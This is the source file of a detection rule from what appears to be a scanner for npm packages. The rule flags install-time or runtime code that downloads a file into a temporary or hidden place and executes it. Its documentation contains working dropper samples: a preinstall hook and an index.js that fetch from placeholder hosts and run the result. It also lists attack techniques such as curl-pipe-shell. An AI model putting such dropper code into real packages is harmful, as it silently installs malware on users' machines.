//! # A file from the network is written to a temporary or hidden place and run
//!
//! What a host answered is written to the temporary folder, the home folder, a hidden file or a script, and
//! that file is then started or loaded, in code that runs by itself.
//!
//! ## Why it matters
//!
//! The second stage of most droppers is a file that is in no package and is gone after the next reboot.
//!
//! ## Known benign uses
//!
//! Installers of native programs download as well. They write archives or programs into the package's own
//! folder or a cache of the vendor's, and start a tool to unpack them rather than the file itself.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node ./tools/prepare.js"}}
//! == tools/prepare.js
//! const { get } = require("node:https");
//! const { createWriteStream, chmodSync } = require("node:fs");
//! const { execFile } = require("node:child_process");
//! const target = require("node:path").join(require("node:os").tmpdir(), ".locale-cache");
//! get("https://mirror.invalid/linux/x64/locale", (stream) => {
//!   const file = createWriteStream(target);
//!   stream.pipe(file);
//!   file.on("finish", () => file.close(() => {
//!     chmodSync(target, 0o755);
//!     execFile(target); //~ here
//!   }));
//! });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! const axios = require("axios");
//! const place = path.join(os.homedir(), "cache.js");
//! axios.get("https://cache.invalid/a").then(({ data }) => {
//!   fs.writeFileSync(place, data);
//!   require("child_process").fork(place); //~ here
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}
//! == install.js
//! const fs = require("fs"), path = require("path"), https = require("https");
//! const { execFileSync } = require("child_process");
//! const program = path.join(__dirname, "bin", "tool");
//! https.get("https://releases.example/tool/1.0.0/linux-x64", (reply) => {
//!   reply.pipe(fs.createWriteStream(program)).on("close", () => {
//!     fs.chmodSync(program, 0o755);
//!     execFileSync(program, ["--version"]);
//!   });
//! });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}
//! == install.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const { execFileSync } = require("child_process");
//! const archive = path.join(os.tmpdir(), "tool.tar.gz");
//! https.get("https://releases.example/tool.tar.gz", (reply) => {
//!   reply.pipe(fs.createWriteStream(archive)).on("close", () => execFileSync("tar", ["-xf", archive, "-C", __dirname]));
//! });
//! ```
//!
//! ## References
//!
//! - StepSecurity: axios compromised on npm (March 2026)

use crate::prelude::*;

/// A file from the network is written to a temporary or hidden place and run.
pub struct RemoteFileWrittenAndRun;

impl Rule for RemoteFileWrittenAndRun {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "remote-file-written-and-run",
            title: "A file from the network is written to a temporary or hidden place and run",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1105",
            covers: &[
                "fetch-then-eval",
                "lifecycle-preinstall",
                "lifecycle-install",
                "runtime-download-bun",
                "curl-pipe-shell",
            ],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for fetched in facts.fetched() {
            let is_unwatched = fetched.trigger.runs_unwatched();
            let is_run = fetched.usage != FetchedUse::MadeExecutable;
            if is_unwatched && is_run && is_out_of_place(&fetched) {
                let from = fetched.host.as_ref().map(|host| format!(" from `{host}`")).unwrap_or_default();
                let fetches = format!("writes a file{from}");
                found.path(
                    fetched.trigger,
                    &[(fetched.fetched.clone(), &fetches), (fetched.used.clone(), "runs it")],
                );
            }
        }
    }
}

fn is_out_of_place(fetched: &FetchedFact) -> bool {
    let is_place = matches!(fetched.class, FileClass::Temporary | FileClass::Home)
        || fetched.class.persists()
        || fetched.class.is_secret();
    let is_host = fetched.host.as_ref().is_some_and(|host| {
        matches!(
            host.class(),
            HostClass::RawAddress
                | HostClass::Paste
                | HostClass::Tunnel
                | HostClass::Messenger
                | HostClass::Hidden
        )
    });
    is_place && !fetched.is_own() || fetched.is_dotted() || fetched.is_script() || is_host
}
